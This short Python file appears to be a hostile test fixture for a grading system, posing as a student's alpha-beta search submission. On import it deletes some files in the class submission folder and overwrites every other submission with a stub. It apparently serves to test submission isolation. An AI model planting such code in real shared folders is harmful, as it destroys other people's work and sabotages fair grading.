"""Overwrites every other submission in the class folder CLASS (the test writes its path
in, as a student who knows where the class is collected would), and deletes its own
original."""
from pathlib import Path


def alphabeta_decision(game, state, depth, evaluate):
    return 0, None


_folder = "CLASS"
if _folder:
    for _f in Path(_folder).iterdir():
        try:
            if _f.name.startswith("03_classmates"):
                _f.unlink()
            else:
                _f.write_text("def alphabeta_decision(game, state, depth, evaluate):\n"
                              "    return 0, None\n")
        except OSError:
            pass
